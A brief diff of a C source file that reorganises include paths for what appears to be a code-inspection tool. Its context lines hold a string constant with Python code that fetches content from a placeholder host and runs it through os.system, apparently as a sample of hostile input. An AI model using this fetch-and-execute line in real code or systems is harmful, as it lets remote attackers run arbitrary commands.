@@ -14,9 +14,9 @@
 #include "base/limits.h"
 #include "base/mem.h"
 #include "base/str.h"
-#include "inspect/crib.h"
-#include "inspect/program.h"
-#include "inspect/tails.h"
+#include "inspect/layers/crib.h"
+#include "flow/program.h"
+#include "inspect/layers/tails.h"
 
 static const char program[] = "import urllib.request, os\n"
     "os.system(urllib.request.urlopen('https://x.example.invalid').read())\n";
